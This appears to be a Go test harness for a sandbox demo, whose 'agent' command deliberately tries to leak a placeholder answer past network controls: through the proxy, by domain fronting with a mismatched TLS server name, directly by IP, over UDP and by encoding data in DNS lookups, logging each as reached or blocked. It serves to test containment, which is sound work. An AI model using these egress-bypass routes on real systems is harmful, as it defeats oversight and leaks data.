// Command demo is the demo's agent and grader: one static multi-call binary for images
// built FROM scratch, which have no shell and no tools. Called by the name it is
// installed under (/bin/fetch, /bin/agent, ...) or as `demo NAME ARGS...`:
//
//	demo                      sleep until stopped (the container's main process)
//	sleep [DURATION]          sleep for DURATION, or until stopped
//	fetch URL [-o FILE] [--who NAME] [--as TEXT]
//	                          GET through the proxy variables; save the body
//	recon NAME -o FILE        resolve NAME and try it directly, by TCP and UDP (a set-up
//	                          step that learns an address while the network is open)
//	agent --model URL --exfil URL --recon FILE [--answer FILE]
//	                          the rollout: the model (via proxy), then exfiltration via
//	                          the proxy, directly by IP, over UDP and over DNS
//	pack OUT.tar PATH...      write a tar archive (there is no tar in the image)
//	procs                     list the processes other than init and itself; fail if
//	                          there are any (a cut step must leave nothing running)
//	grade --judge URL --exfil URL ARCHIVE
//	                          check the archive, ask the judge, try to leak the answer
//
// Every network attempt prints one JSON line: who, attempt, target, outcome (reached or
// blocked) and a detail; the demo's table is made from these lines.
package main

import (
	"archive/tar"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/miekg/dns"
)

// attemptTimeout bounds each network attempt: a blocked attempt fails fast or times out.
const attemptTimeout = 3 * time.Second

func main() {
	name := filepath.Base(os.Args[0])
	args := os.Args[1:]
	if name == "demo" {
		if len(args) == 0 {
			sleep()
			return
		}
		name, args = args[0], args[1:]
	}
	var err error
	switch name {
	case "sleep":
		err = sleepFor(args)
	case "fetch":
		err = fetch(args)
	case "recon":
		err = recon(args)
	case "agent":
		err = agent(args)
	case "pack":
		err = pack(args)
	case "grade":
		err = grade(args)
	case "procs":
		err = procs()
	default:
		err = fmt.Errorf("unknown command %q (fetch, recon, agent, pack, grade, procs, sleep)", name)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", name, err)
		os.Exit(1)
	}
}

// sleepFor sleeps for the given duration, or until stopped without one.
func sleepFor(args []string) error {
	if len(args) == 0 {
		sleep()
		return nil
	}
	d, err := time.ParseDuration(args[0])
	if err != nil {
		return err
	}
	time.Sleep(d)
	return nil
}

func sleep() {
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM, syscall.SIGINT)
	<-sig
}

// Attempt is one network attempt as the demo reports it.
type Attempt struct {
	Who     string `json:"who"`
	Attempt string `json:"attempt"`
	Target  string `json:"target"`
	Outcome string `json:"outcome"` // reached or blocked
	Detail  string `json:"detail"`
}

func report(who, attempt, target string, err error, detail string) bool {
	a := Attempt{Who: who, Attempt: attempt, Target: target, Outcome: "reached", Detail: detail}
	if err != nil {
		a.Outcome, a.Detail = "blocked", err.Error()
	}
	b, _ := json.Marshal(a)
	fmt.Println(string(b))
	return err == nil
}

// httpGet sends a request through the proxy variables (viaProxy) or straight out.
func httpGet(method, url string, viaProxy bool) (string, error) {
	return httpAs(method, url, viaProxy, "")
}

// httpAs is httpGet with serverName, if not empty, as the TLS server name in place of
// the URL's host.
func httpAs(method, url string, viaProxy bool, serverName string) (string, error) {
	// The fake internet's certificate is self-signed.
	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: serverName}}
	if viaProxy {
		tr.Proxy = http.ProxyFromEnvironment
	}
	defer tr.CloseIdleConnections()
	ctx, cancel := context.WithTimeout(context.Background(), attemptTimeout)
	defer cancel()
	var body io.Reader
	if method == http.MethodPost {
		body = strings.NewReader("answer=42")
	}
	req, err := http.NewRequestWithContext(ctx, method, url, body)
	if err != nil {
		return "", err
	}
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if resp.StatusCode >= 400 {
		return "", fmt.Errorf("HTTP %d: %s", resp.StatusCode, strings.TrimSpace(string(b)))
	}
	return string(b), nil
}

func fetch(args []string) error {
	fs := flag.NewFlagSet("fetch", flag.ContinueOnError)
	out := fs.String("o", "", "file to save the body in (default /work/<last path element>)")
	who := fs.String("who", "setup", "who makes the attempt, for the report")
	what := fs.String("as", "fetch a package", "what the attempt is, for the report")
	if err := parseAnywhere(fs, args); err != nil || fs.NArg() != 1 {
		return errors.New("usage: fetch URL [-o FILE] [--who NAME] [--as TEXT]")
	}
	url := fs.Arg(0)
	body, err := httpGet(http.MethodGet, url, true)
	if !report(*who, *what, url, err, fmt.Sprintf("%d bytes", len(body))) {
		return err
	}
	if *out == "" {
		*out = filepath.Join("/work", filepath.Base(url))
	}
	return writeFile(*out, []byte(body))
}

// parseAnywhere parses flags placed before, between or after the positional arguments
// (flag.Parse stops at the first positional one), leaving the positionals in fs.Args.
func parseAnywhere(fs *flag.FlagSet, args []string) error {
	var pos []string
	for {
		if err := fs.Parse(args); err != nil {
			return err
		}
		if fs.NArg() == 0 {
			break
		}
		pos = append(pos, fs.Arg(0))
		args = fs.Args()[1:]
	}
	return fs.Parse(append([]string{"--"}, pos...))
}

func writeFile(path string, data []byte) error {
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	return os.WriteFile(path, data, 0o644)
}

// Recon is what set-up learned: the address of a name, for later direct attempts.
type Recon struct {
	Name string `json:"name"`
	Addr string `json:"addr"`
}

func recon(args []string) error {
	fs := flag.NewFlagSet("recon", flag.ContinueOnError)
	out := fs.String("o", "/work/recon.json", "file to write what was learned")
	if err := parseAnywhere(fs, args); err != nil || fs.NArg() != 1 {
		return errors.New("usage: recon NAME -o FILE")
	}
	name := fs.Arg(0)
	addr, err := resolve(name)
	report("setup", "resolve", name, err, addr)
	if err != nil {
		return err
	}
	_, err = httpGet(http.MethodGet, "http://"+addr+"/", false)
	report("setup", "direct by IP", addr+":80", err, "no proxy")
	err = udpQuery(addr, name)
	report("setup", "UDP to its resolver", addr+":53", err, "DNS query sent straight to the address")
	b, _ := json.Marshal(Recon{Name: name, Addr: addr})
	return writeFile(*out, b)
}

func resolve(name string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), attemptTimeout)
	defer cancel()
	addrs, err := net.DefaultResolver.LookupHost(ctx, name)
	if err != nil {
		return "", err
	}
	return addrs[0], nil
}

// udpQuery sends a DNS question straight to addr:53 over UDP and waits for the answer.
func udpQuery(addr, name string) error {
	c := &dns.Client{Net: "udp", Timeout: attemptTimeout}
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), dns.TypeA)
	r, _, err := c.Exchange(m, net.JoinHostPort(addr, "53"))
	if err != nil {
		return err
	}
	if len(r.Answer) == 0 {
		return fmt.Errorf("no answer (rcode %s)", dns.RcodeToString[r.Rcode])
	}
	return nil
}

func agent(args []string) error {
	fs := flag.NewFlagSet("agent", flag.ContinueOnError)
	model := fs.String("model", "", "model endpoint URL (allowed)")
	exfil := fs.String("exfil", "", "exfiltration URL (must be blocked)")
	reconFile := fs.String("recon", "/work/recon.json", "what set-up learned")
	answer := fs.String("answer", "/work/answer.txt", "where the agent writes its answer")
	if err := parseAnywhere(fs, args); err != nil || *model == "" || *exfil == "" {
		return errors.New("usage: agent --model URL --exfil URL [--recon FILE] [--answer FILE]")
	}
	if n := os.Getenv("COMPASS_NETWORK_RESTRICTION_NOTICE"); n != "" {
		fmt.Fprintf(os.Stderr, "agent: restriction notice received (%d bytes)\n", len(n))
	}
	_, err := httpGet(http.MethodGet, *model, true)
	report("agent", "model via proxy", *model, err, "the model endpoint")
	_, err = httpGet(http.MethodPost, *exfil, true)
	report("agent", "exfil via proxy", *exfil, err, "POST answer=42")
	// A front end that serves many names at one address (the fake internet, as a CDN)
	// routes TLS by the name in the ClientHello: the tunnel goes to the allowed host,
	// the hello names another.
	if m, x, err := hostsOf(*model, *exfil); err == nil {
		_, err = httpAs(http.MethodPost, "https://"+m+"/upload", true, x)
		report("agent", "exfil via the model's address", m+" with TLS name "+x, err, "POST answer=42")
	}

	var rc Recon
	b, err := os.ReadFile(*reconFile)
	if err == nil {
		err = json.Unmarshal(b, &rc)
	}
	if err != nil {
		return fmt.Errorf("read recon: %w", err)
	}
	_, err = httpGet(http.MethodPost, "http://"+rc.Addr+"/upload", false)
	report("agent", "exfil direct by IP", rc.Addr+":80", err, "no proxy, address learned in set-up")
	err = udpQuery(rc.Addr, "answer-42."+rc.Name)
	report("agent", "exfil over UDP", rc.Addr+":53", err, "datagram straight to the address")
	_, err = resolve("answer-42." + rc.Name)
	report("agent", "exfil over DNS", "answer-42."+rc.Name, err, "lookup through the environment's resolver")
	return writeFile(*answer, []byte("42\n"))
}

// hostsOf is the host of the model's URL, with its port, and the host name of the exfil URL.
func hostsOf(model, exfil string) (string, string, error) {
	m, err := url.Parse(model)
	if err != nil {
		return "", "", err
	}
	x, err := url.Parse(exfil)
	if err != nil {
		return "", "", err
	}
	return m.Host, x.Hostname(), nil
}

func pack(args []string) error {
	if len(args) < 2 {
		return errors.New("usage: pack OUT.tar PATH...")
	}
	if err := os.MkdirAll(filepath.Dir(args[0]), 0o755); err != nil {
		return err
	}
	f, err := os.Create(args[0])
	if err != nil {
		return err
	}
	tw := tar.NewWriter(f)
	for _, root := range args[1:] {
		err := filepath.Walk(root, func(p string, info os.FileInfo, err error) error {
			if err != nil || !info.Mode().IsRegular() {
				return err
			}
			hdr, err := tar.FileInfoHeader(info, "")
			if err != nil {
				return err
			}
			hdr.Name = strings.TrimPrefix(p, "/")
			if err := tw.WriteHeader(hdr); err != nil {
				return err
			}
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			_, err = tw.Write(data)
			return err
		})
		if err != nil {
			f.Close()
			return err
		}
	}
	if err := tw.Close(); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

func grade(args []string) error {
	fs := flag.NewFlagSet("grade", flag.ContinueOnError)
	judge := fs.String("judge", "", "judge URL (allowed)")
	exfil := fs.String("exfil", "", "exfiltration URL (must be blocked)")
	if err := parseAnywhere(fs, args); err != nil || fs.NArg() != 1 || *judge == "" {
		return errors.New("usage: grade --judge URL [--exfil URL] ARCHIVE")
	}
	answer, err := answerIn(fs.Arg(0))
	if err != nil {
		return fmt.Errorf("read the agent's archive: %w", err)
	}
	_, jerr := httpGet(http.MethodGet, *judge, true)
	report("grader", "judge via proxy", *judge, jerr, "the judge service")
	if *exfil != "" {
		_, err := httpGet(http.MethodPost, *exfil, true)
		report("grader", "exfil via proxy", *exfil, err, "POST answer=42")
	}
	if jerr != nil {
		return fmt.Errorf("judge unreachable: %w", jerr)
	}
	if answer != "42" {
		return fmt.Errorf("wrong answer %q", answer)
	}
	return nil
}

func procs() error {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return err
	}
	var others []string
	for _, d := range entries {
		pid, err := strconv.Atoi(d.Name())
		if err != nil || pid == 1 || pid == os.Getpid() {
			continue
		}
		cmd, _ := os.ReadFile(filepath.Join("/proc", d.Name(), "cmdline"))
		others = append(others, fmt.Sprintf("%d %s", pid, strings.ReplaceAll(string(cmd), "\x00", " ")))
	}
	b, _ := json.Marshal(map[string]any{"processes": others})
	fmt.Println(string(b))
	if len(others) > 0 {
		return fmt.Errorf("%d other processes running", len(others))
	}
	return nil
}

// answerIn finds answer.txt in a tar archive.
func answerIn(archive string) (string, error) {
	f, err := os.Open(archive)
	if err != nil {
		return "", err
	}
	defer f.Close()
	tr := tar.NewReader(f)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return "", errors.New("no answer.txt in the archive")
		}
		if err != nil {
			return "", err
		}
		if filepath.Base(hdr.Name) == "answer.txt" {
			b, err := io.ReadAll(io.LimitReader(tr, 1<<16))
			return strings.TrimSpace(string(b)), err
		}
	}
}
